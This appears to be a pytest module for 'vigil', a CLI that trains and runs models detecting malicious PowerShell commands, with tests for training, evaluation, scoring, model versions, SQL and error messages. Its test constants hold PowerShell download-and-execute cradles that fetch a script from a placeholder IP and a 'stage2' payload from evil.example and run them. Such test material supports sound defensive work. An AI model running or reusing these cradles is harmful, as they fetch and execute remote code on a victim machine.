"""`vigil ...` as a user runs it: train, eval, score, models, sql, demo and one-line errors.

One small real model is trained once for the module through the CLI itself; commands that
change a store work on a copy of it. Exit codes and stderr of the error path are checked
through the installed ``vigil`` entry point, in a subprocess.
"""

from __future__ import annotations

import json
import math
import shutil
import subprocess
import sys
from collections.abc import Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.csv as pcsv
import pyarrow.parquet as pq
import pytest
from click.testing import Result
from typer.testing import CliRunner

from vigil.cli import app
from vigil.datasets.powershell import generate_commands
from vigil.runtime.detection import BUILTIN_DETECTIONS, BoundDetection
from vigil.store import Store

VIGIL = Path(sys.executable).with_name("vigil")

MALICIOUS = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
BENIGN = "Get-Service -Name wuauserv | Select-Object Status"
SCRIPT_BLOCK = (
    "$wc = New-Object System.Net.WebClient\n"
    "$payload = $wc.DownloadString('http://evil.example/stage2')\n"
    "Invoke-Expression $payload"
)


def invoke(*args: str, input: str | bytes | None = None) -> Result:
    """Run the CLI in-process; an unexpected exception fails the test with its traceback."""
    return CliRunner().invoke(app, list(args), input=input, catch_exceptions=False)


def run_vigil(*args: str) -> subprocess.CompletedProcess[str]:
    """Run the installed entry point, where VigilError becomes exit code 2 and one line."""
    return subprocess.run(
        [str(VIGIL), *args], capture_output=True, text=True, timeout=300, check=False
    )


def last_json(stdout: str) -> dict[str, object]:
    """The JSON line a command ends with, parsed strictly (no NaN)."""
    last = stdout.rstrip("\n").splitlines()[-1]

    def refuse(constant: str) -> float:
        raise AssertionError(f"{constant} is not JSON: {last}")

    parsed = json.loads(last, parse_constant=refuse)
    assert isinstance(parsed, dict)
    return parsed


def commands(n: int, seed: int) -> pa.Table:
    return generate_commands(n, malicious_share=0.3, seed=seed)


def write_parquet(table: pa.Table, path: Path) -> Path:
    pq.write_table(table, path)
    return path


def write_csv(table: pa.Table, path: Path) -> Path:
    if path.name.endswith(".gz"):
        with pa.CompressedOutputStream(str(path), "gzip") as out:
            pcsv.write_csv(table, out)
    else:
        pcsv.write_csv(table, path)
    return path


def write_jsonl(rows: Sequence[dict[str, object]], path: Path) -> Path:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path


@dataclass(frozen=True)
class Trained:
    """The module's model: trained once with `vigil train`, in its own store."""

    store: Path
    held_out: Path
    result: Result

    def bound(self) -> BoundDetection:
        return BUILTIN_DETECTIONS["powershell"].bind(Store(self.store))

    def eval_args(self, *extra: str) -> list[str]:
        """`vigil eval powershell` on the held-out file with this store, then ``extra``."""
        return [
            "eval",
            "powershell",
            "--data",
            str(self.held_out),
            "--store",
            str(self.store),
            *extra,
        ]


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Trained:
    root = tmp_path_factory.mktemp("cli")
    data = write_parquet(commands(3000, seed=5), root / "train.parquet")
    held_out = write_parquet(commands(400, seed=6), root / "held_out.parquet")
    store = root / "models"
    result = invoke(
        "train", "powershell", "--data", str(data), "--store", str(store), "--epochs", "3"
    )
    return Trained(store, held_out, result)


def scores_of(stdout: str) -> list[float]:
    return [float(line) for line in stdout.splitlines()]


def assert_same_scores(cli: Sequence[float], library: Sequence[float]) -> None:
    assert len(cli) == len(library)
    for got, want in zip(cli, library, strict=True):
        if math.isnan(want):
            assert math.isnan(got)
        else:
            assert got == pytest.approx(want, abs=1e-6)


# -- train ----------------------------------------------------------------------------------


class TestTrain:
    def test_publishes_version_1_moves_production_and_ends_with_one_json_line(
        self, trained: Trained
    ) -> None:
        assert trained.result.exit_code == 0, trained.result.output
        out = trained.result.stdout
        assert "trained powershell@1" in out
        assert "alias 'production' -> powershell@1" in out
        summary = last_json(out)
        assert {"detection", "version", "threshold", "roc_auc"} <= set(summary)
        assert summary["detection"] == "powershell"
        assert summary["version"] == 1
        assert isinstance(summary["threshold"], float)
        assert 0.0 <= summary["threshold"] <= 1.0
        assert isinstance(summary["roc_auc"], float)
        assert summary["roc_auc"] > 0.9
        assert Store(trained.store).aliases("powershell") == {"production": 1}

    @pytest.mark.parametrize(
        ("file_name", "text_col", "label_col"),
        [
            pytest.param("data.csv", None, None, id="csv"),
            pytest.param("data.csv.gz", None, None, id="csv-gz"),
            pytest.param("data.jsonl", "body", "verdict", id="jsonl-other-column-names"),
        ],
    )
    def test_reads_csv_gzipped_csv_and_jsonl_with_any_column_names(
        self, tmp_path: Path, file_name: str, text_col: str | None, label_col: str | None
    ) -> None:
        table = commands(400, seed=11)
        path = tmp_path / file_name
        if file_name.endswith(".jsonl"):
            rows = [
                {"body": r["command_line"], "verdict": bool(r["label"]), "family": r["family"]}
                for r in table.to_pylist()
            ]
            write_jsonl(rows, path)
        else:
            write_csv(table, path)
        if file_name.endswith(".gz"):
            assert path.read_bytes()[:2] == b"\x1f\x8b"  # really gzip, not a renamed CSV
        flags = ["--text-col", text_col, "--label-col", label_col] if text_col and label_col else []

        result = invoke(
            "train",
            "powershell",
            "--data",
            str(path),
            "--store",
            str(tmp_path / "models"),
            "--epochs",
            "2",
            *flags,
        )

        assert result.exit_code == 0, result.output
        assert last_json(result.stdout)["version"] == 1
        assert Store(tmp_path / "models").versions("powershell") == [1]

    def test_alias_empty_string_publishes_without_moving_an_alias(self, tmp_path: Path) -> None:
        data = write_parquet(commands(400, seed=12), tmp_path / "d.parquet")
        result = invoke(
            "train",
            "powershell",
            "--data",
            str(data),
            "--store",
            str(tmp_path / "models"),
            "--epochs",
            "1",
            "--alias",
            "",
        )
        assert result.exit_code == 0, result.output
        assert "alias '" not in result.stdout
        assert Store(tmp_path / "models").aliases("powershell") == {}

    def test_nets_sets_how_many_nets_the_model_averages(self, tmp_path: Path) -> None:
        data = write_parquet(commands(400, seed=12), tmp_path / "d.parquet")
        store = tmp_path / "models"
        for nets in ("1", "2"):
            result = invoke(
                "train", "powershell", "--data", str(data), "--store", str(store),
                "--epochs", "1", "--nets", nets,
            )  # fmt: skip
            assert result.exit_code == 0, result.output
        one, two = (Store(store).manifest("powershell", v) for v in (1, 2))
        assert one.params["config"]["nets"] == 1
        assert two.params["config"]["nets"] == 2
        assert len(two.params["best_epoch"]) == 2


# -- eval -----------------------------------------------------------------------------------


class TestEval:
    def test_prints_figures_then_one_json_line(self, trained: Trained) -> None:
        result = invoke(*trained.eval_args())
        assert result.exit_code == 0, result.output
        assert "powershell@1" in result.stdout
        assert "roc_auc" in result.stdout  # the table's header
        report = last_json(result.stdout)
        for key in (
            "roc_auc",
            "pr_auc",
            "tpr_at_fpr_1e-2",
            "tpr_at_fpr_1e-3",
            "threshold_at_fpr_1e-3",
        ):
            assert isinstance(report[key], float), key
        assert report["model"] == "powershell@1"
        assert "groups" not in report
        assert not any(key.startswith("baseline_") for key in report)

    def test_group_col_gives_figures_per_group(self, trained: Trained) -> None:
        families = set(pq.read_table(trained.held_out).column("family").to_pylist())
        result = invoke(*trained.eval_args("--group-col", "family"))
        assert result.exit_code == 0, result.output
        groups = last_json(result.stdout)["groups"]
        assert isinstance(groups, dict)
        assert set(groups) == families
        for figures in groups.values():
            assert {"n", "n_pos", "flagged_at_fpr_1e-3"} <= set(figures)
        assert sum(g["n"] for g in groups.values()) == 400
        assert any(family in result.stdout for family in families)

    def test_show_errors_lists_the_worst_rows_of_each_class_explained(
        self, trained: Trained
    ) -> None:
        table = pq.read_table(trained.held_out)
        result = invoke(*trained.eval_args("--group-col", "family", "--show-errors", "3"))
        assert result.exit_code == 0, result.output
        assert "rows the model got most wrong" in result.stdout
        errors = last_json(result.stdout)["errors"]
        assert isinstance(errors, list)
        assert [e["kind"] for e in errors] == ["benign, scored high"] * 3 + [
            "malicious, scored low"
        ] * 3
        scores = trained.bound().score(table.column("command_line"))
        labels = np.asarray(table.column("label"))
        for error in errors:
            row = error["row"]
            assert error["score"] == pytest.approx(scores[row])
            assert error["text"] == table.column("command_line")[row].as_py()[:200]
            assert error["group"] == table.column("family")[row].as_py()
        benign_scores = [e["score"] for e in errors[:3]]
        assert benign_scores == sorted(np.sort(scores[labels == 0])[-3:], reverse=True)
        assert [e["score"] for e in errors[3:]] == sorted(scores[labels == 1])[:3]

    def test_baseline_train_adds_the_baseline_side_by_side(
        self, trained: Trained, tmp_path: Path
    ) -> None:
        baseline_train = write_parquet(commands(300, seed=13), tmp_path / "bl.parquet")
        result = invoke(*trained.eval_args("--baseline-train", str(baseline_train)))
        assert result.exit_code == 0, result.output
        report = last_json(result.stdout)
        for key in ("baseline_roc_auc", "baseline_pr_auc", "baseline_tpr_at_fpr_1e-3"):
            assert isinstance(report[key], float), key
        assert "baseline" in result.stdout

    def test_model_option_evaluates_a_version_by_number(self, trained: Trained) -> None:
        result = invoke(*trained.eval_args("--model", "1"))
        assert result.exit_code == 0, result.output
        assert last_json(result.stdout)["model"] == "powershell@1"


# -- score ----------------------------------------------------------------------------------


class TestScore:
    def test_one_score_per_line_in_order_nan_for_null_like_lines(self, trained: Trained) -> None:
        # (stdin line, the value it stands for): empty, null and \N are NULL; nothing else is.
        table: list[tuple[str, str | None]] = [
            (BENIGN, BENIGN),
            (MALICIOUS, MALICIOUS),
            ("", None),
            ("null", None),
            ("NULL", None),
            ("\\N", None),
            ("   ", None),
            ("Write-Host 'héllo wörld ✓'", "Write-Host 'héllo wörld ✓'"),
            ("None", "None"),
            ("nan", "nan"),
        ]
        stdin = "".join(f"{line}\n" for line, _ in table)

        result = invoke("score", "powershell", "--store", str(trained.store), input=stdin)

        assert result.exit_code == 0, result.output
        scores = scores_of(result.stdout)
        assert len(scores) == len(table)
        assert [math.isnan(s) for s in scores] == [value is None for _, value in table]
        assert result.stdout.splitlines()[2] == "nan"
        assert scores[1] > scores[0]
        expected = trained.bound().score([value for _, value in table])
        assert_same_scores(scores, list(expected))

    def test_last_line_without_newline_and_undecodable_bytes_are_still_scored(
        self, trained: Trained
    ) -> None:
        raw = BENIGN.encode() + b"\n" + b"Get-Item C:\\\xff\xfe\\x\n" + MALICIOUS.encode()
        result = invoke("score", "powershell", "--store", str(trained.store), input=raw)
        assert result.exit_code == 0, result.output
        scores = scores_of(result.stdout)
        assert len(scores) == 3
        assert not any(math.isnan(s) for s in scores)

    def test_a_live_pipe_is_scored_as_its_lines_arrive(self, trained: Trained) -> None:
        """`tail -f log | vigil score`: lines are scored when they arrive, not when a
        batch fills up or the input ends; a line written in pieces waits for its end."""
        process = subprocess.Popen(
            [str(VIGIL), "score", "powershell", "--store", str(trained.store)],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        assert process.stdin is not None
        stdout = process.stdout
        assert stdout is not None
        reader = ThreadPoolExecutor(max_workers=1)

        def next_line() -> bytes:  # a hung CLI fails the test instead of hanging it
            return reader.submit(stdout.readline).result(timeout=120)

        try:
            process.stdin.write(f"{BENIGN}\n{MALICIOUS}\n".encode())
            process.stdin.flush()  # and the pipe stays open
            first, second = float(next_line()), float(next_line())
            assert second > first
            process.stdin.write(b"Get-")
            process.stdin.flush()
            process.stdin.write(b"Date\n\n")
            process.stdin.flush()
            assert not math.isnan(float(next_line()))  # "Get-Date", whole
            assert next_line() == b"nan\n"  # the empty line
            process.stdin.write(MALICIOUS.encode())  # the last line, without a newline
            process.stdin.close()
            assert float(next_line()) == pytest.approx(second, abs=1e-6)
            assert next_line() == b""
            assert process.wait(timeout=60) == 0
        finally:
            process.kill()
            process.wait(timeout=60)
            reader.shutdown(wait=False)
            for stream in (process.stdin, stdout, process.stderr):
                if stream is not None:
                    stream.close()

    def test_batch_size_does_not_change_the_output(self, trained: Trained) -> None:
        lines = [BENIGN, "", MALICIOUS, BENIGN, "null", MALICIOUS + " ", "Get-Date"] * 3
        text = "\n".join(lines) + "\n"
        default = invoke("score", "powershell", "--store", str(trained.store), input=text)
        one = invoke(
            "score", "powershell", "--store", str(trained.store), "--batch-size", "1", input=text
        )
        assert default.exit_code == one.exit_code == 0
        assert one.stdout == default.stdout
        assert len(one.stdout.splitlines()) == len(lines)

    def test_jsonl_reads_multi_line_script_blocks_and_nulls_bad_lines_with_a_warning(
        self, trained: Trained
    ) -> None:
        lines = [
            json.dumps(SCRIPT_BLOCK),
            "null",
            "42",
            '{"cmd": "not a string"}',
            "{not json",
            "",
            json.dumps(BENIGN),
            json.dumps(""),
        ]
        result = invoke(
            "score",
            "powershell",
            "--store",
            str(trained.store),
            "--jsonl",
            input="\n".join(lines) + "\n",
        )

        assert result.exit_code == 0, result.output
        scores = scores_of(result.stdout)
        assert len(scores) == len(lines)
        expected = trained.bound().score([SCRIPT_BLOCK, None, None, None, None, None, BENIGN, ""])
        assert_same_scores(scores, list(expected))
        assert not math.isnan(scores[-1])  # an empty JSON string is a value, not NULL
        warnings = result.stderr
        assert "line 3: expected a JSON string, got int; scored as NULL" in warnings
        assert "line 4: expected a JSON string, got dict; scored as NULL" in warnings
        assert "line 5: not JSON" in warnings
        assert "line 2" not in warnings  # null is a NULL, not a mistake

    def test_explain_prints_one_json_object_per_line_and_null_for_null(
        self, trained: Trained
    ) -> None:
        result = invoke(
            "score",
            "powershell",
            "--store",
            str(trained.store),
            "--explain",
            input=f"{MALICIOUS}\n\n{BENIGN}\n",
        )
        assert result.exit_code == 0, result.output
        lines = result.stdout.splitlines()
        assert len(lines) == 3
        assert lines[1] == "null"
        malicious, benign = json.loads(lines[0]), json.loads(lines[2])
        for item in (malicious, benign):
            assert set(item) == {
                "score",
                "threshold",
                "alert",
                "model",
                "indicators",
                "contributions",
            }
            assert item["model"] == "powershell@1"
        assert {"iex", "downloadstring", "net.webclient"} <= set(malicious["indicators"])
        expected = trained.bound().score([MALICIOUS, BENIGN])
        assert malicious["score"] == pytest.approx(expected[0], abs=1e-6)
        assert benign["score"] == pytest.approx(expected[1], abs=1e-6)

    def test_empty_input_prints_nothing(self, trained: Trained) -> None:
        result = invoke("score", "powershell", "--store", str(trained.store), input="")
        assert result.exit_code == 0
        assert result.stdout == ""


# -- models ---------------------------------------------------------------------------------


class TestModels:
    @pytest.fixture
    def two_versions(self, trained: Trained, tmp_path: Path) -> Path:
        """A copy of the module's store, trained a second time: production -> 2."""
        store = tmp_path / "models"
        shutil.copytree(trained.store, store)
        data = write_parquet(commands(400, seed=14), tmp_path / "again.parquet")
        result = invoke(
            "train", "powershell", "--data", str(data), "--store", str(store), "--epochs", "1"
        )
        assert result.exit_code == 0, result.output
        assert "powershell@2" in result.stdout
        return store

    def test_list_shows_every_version_and_where_the_alias_points(self, two_versions: Path) -> None:
        result = invoke("models", "list", "--store", str(two_versions))
        assert result.exit_code == 0, result.output
        rows = [line for line in result.stdout.splitlines() if "powershell" in line]
        assert len(rows) == 2
        assert "production" not in rows[0]
        assert "production" in rows[1]
        spec = Store(two_versions).manifest("powershell", 2).feature_spec
        assert spec in rows[1]  # whole cells: piped output is not cut at 80 columns

    def test_promote_moves_production_and_rollback_moves_it_back(self, two_versions: Path) -> None:
        store = Store(two_versions)
        promoted = invoke("models", "promote", "powershell", "1", "--store", str(two_versions))
        assert promoted.exit_code == 0, promoted.output
        assert "production -> powershell@1" in promoted.stdout
        assert store.aliases("powershell") == {"production": 1}
        scored = invoke(
            "score", "powershell", "--store", str(two_versions), "--explain", input=BENIGN
        )
        assert json.loads(scored.stdout)["model"] == "powershell@1"

        rolled = invoke("models", "rollback", "powershell", "--store", str(two_versions))
        assert rolled.exit_code == 0, rolled.output
        assert "production -> powershell@2" in rolled.stdout
        assert store.aliases("powershell") == {"production": 2}

    def test_list_of_an_empty_store_says_how_to_get_a_model(self, tmp_path: Path) -> None:
        result = invoke("models", "list", "--store", str(tmp_path / "empty"))
        assert result.exit_code == 0
        assert "no models in store" in result.stderr
        assert "vigil train powershell" in result.stderr


# -- sql ------------------------------------------------------------------------------------


def test_sql_runs_on_the_profile_of_vigil_toml_in_the_working_directory(
    trained: Trained, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "vigil.toml").write_text(
        f'[profiles.dev]\ndatabase = "wh/dev.duckdb"\nstore = "{trained.store.as_posix()}"\n'
    )
    result = invoke("sql", "select 42 as answer")
    assert result.exit_code == 0, result.output
    assert "answer" in result.stdout
    assert "42" in result.stdout
    assert (tmp_path / "wh" / "dev.duckdb").is_file()

    scored = invoke(
        "sql",
        f"select round(vigil_powershell_score('{BENIGN}'), 6) as s, "
        "vigil_powershell_score(NULL) is null as null_in_null_out",
    )
    assert scored.exit_code == 0, scored.output
    expected = round(float(trained.bound().score([BENIGN])[0]), 6)
    assert f"{expected}" in scored.stdout
    assert "true" in scored.stdout


# -- errors: one line, exit code 2 ----------------------------------------------------------


def error_line(proc: subprocess.CompletedProcess[str]) -> str:
    """The error a user sees: exit code 2, one `error:` line, then the --verbose hint."""
    assert proc.returncode == 2, proc.stderr
    lines = proc.stderr.splitlines()
    assert len(lines) == 2, proc.stderr
    assert lines[0].startswith("error: ")
    assert "--verbose" in lines[1]
    assert "Traceback" not in proc.stderr
    return lines[0]


class TestErrors:
    def test_unknown_detection_suggests_the_close_name(self) -> None:
        line = error_line(run_vigil("score", "powershel"))
        assert "no detection 'powershel'" in line
        assert "did you mean 'powershell'" in line

    def test_verbose_shows_the_traceback_instead(self) -> None:
        proc = run_vigil("--verbose", "score", "powershel")
        assert proc.returncode != 0
        assert "Traceback" in proc.stderr
        assert "DetectionNotFound" in proc.stderr

    @pytest.mark.parametrize(
        ("flags", "expected"),
        [
            pytest.param(
                ["--text-col", "cmd"],
                ["no text column 'cmd'", "command_line, label, family", "--text-col"],
                id="text-col",
            ),
            pytest.param(
                ["--label-col", "is_bad"],
                ["no label column 'is_bad'", "command_line, label, family", "--label-col"],
                id="label-col",
            ),
        ],
    )
    def test_missing_column_names_the_columns_and_the_flag(
        self, tmp_path: Path, flags: list[str], expected: list[str]
    ) -> None:
        data = write_parquet(commands(50, seed=1), tmp_path / "d.parquet")
        line = error_line(run_vigil("train", "powershell", "--data", str(data), *flags))
        for part in expected:
            assert part in line

    def test_no_guessable_text_column_asks_for_the_flag(self, tmp_path: Path) -> None:
        data = write_csv(pa.table({"a": ["x", "y"], "label": [0, 1]}), tmp_path / "d.csv")
        line = error_line(run_vigil("train", "powershell", "--data", str(data)))
        assert "no text column found" in line
        assert "pass --text-col" in line

    @pytest.mark.parametrize(
        ("labels", "expected"),
        [
            pytest.param([0, 1, 2, 1], "has values [2]; expected 0 or 1", id="not-0-or-1"),
            pytest.param(["benign", "evil", "evil", "benign"], "must hold 0/1", id="words"),
            pytest.param([0, 0, 0, 0], "split has 0 malicious and", id="one-class"),
        ],
    )
    def test_labels_must_be_0_or_1_and_both_classes_present(
        self, tmp_path: Path, labels: list[object], expected: str
    ) -> None:
        n = 40
        table = pa.table(
            {
                "command_line": [f"Get-Process -Id {i}" for i in range(n)],
                "label": (labels * n)[:n],
            }
        )
        data = write_csv(table, tmp_path / "d.csv")
        line = error_line(run_vigil("train", "powershell", "--data", str(data), "--epochs", "1"))
        assert expected in line

    def test_network_options_for_a_tree_detection_are_refused(self, tmp_path: Path) -> None:
        data = tmp_path / "d.csv"
        data.write_text("domain,label\nexample.com,0\nkq3vbx.net,1\n")
        line = error_line(run_vigil("train", "domain", "--data", str(data), "--nets", "2"))
        assert "--nets apply to network detections" in line
        assert "'domain' trains gradient-boosted trees" in line

    def test_nets_out_of_range_names_the_field(self, tmp_path: Path) -> None:
        data = write_csv(commands(100, seed=3), tmp_path / "d.csv")
        line = error_line(run_vigil("train", "powershell", "--data", str(data), "--nets", "0"))
        assert "MLPConfig.nets must be an int 1..16, got 0" in line

    def test_unreadable_data_file_is_named(self, tmp_path: Path) -> None:
        path = tmp_path / "d.csv.gz"
        path.write_bytes(b"not gzip at all")
        line = error_line(run_vigil("train", "powershell", "--data", str(path)))
        assert f"cannot read {path}" in line

    def test_promoting_a_missing_version_lists_the_known_ones(self, trained: Trained) -> None:
        line = error_line(
            run_vigil("models", "promote", "powershell", "9", "--store", str(trained.store))
        )
        assert "no version 9" in line
        assert "known versions: 1" in line

    def test_group_col_that_does_not_exist_is_named(self, trained: Trained) -> None:
        proc = run_vigil(*trained.eval_args("--group-col", "source"))
        line = error_line(proc)
        assert "no column 'source' to group by" in line
        assert "family" in line

    def test_profile_errors_keep_their_brackets(self, tmp_path: Path) -> None:
        (tmp_path / "vigil.toml").write_text('[profiles.prod]\ndatabase = "p.duckdb"\n')
        line = error_line(run_vigil("sql", "select 1"))
        assert "no [profiles.dev] section (profiles defined: prod)" in line

    def test_a_failing_query_is_one_line_naming_the_database(self, tmp_path: Path) -> None:
        (tmp_path / "vigil.toml").write_text('[profiles.dev]\ndatabase = "wh.duckdb"\n')
        line = error_line(run_vigil("sql", "select * from no_such_table"))
        assert "DuckDB refused the query" in line
        assert "no_such_table" in line


@pytest.mark.parametrize("command", ["train", "eval", "score"])
def test_help_names_the_intel_section_with_its_brackets(command: str) -> None:
    # Rich markup would read "[intel.sources]" as a style tag and print nothing of it.
    result = CliRunner().invoke(app, [command, "--help"], env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.output
    assert "Use the profile's [intel.sources] (domain and IP detections)." in result.stdout


# -- demo -----------------------------------------------------------------------------------


@pytest.mark.slow
def test_demo_scores_generated_events_with_one_sql_statement(tmp_path: Path) -> None:
    import duckdb

    workdir = tmp_path / "demo"
    result = invoke("demo", "--events", "3000", "--workdir", str(workdir))

    assert result.exit_code == 0, result.output
    assert "rows/s" in result.stdout
    with duckdb.connect(str(workdir / "demo.duckdb"), read_only=True) as con:
        ((alerts,),) = con.sql("select count(*) from alerts").fetchall()
    assert alerts > 0
    assert (workdir / "models" / "powershell" / "1" / "model.onnx").is_file()
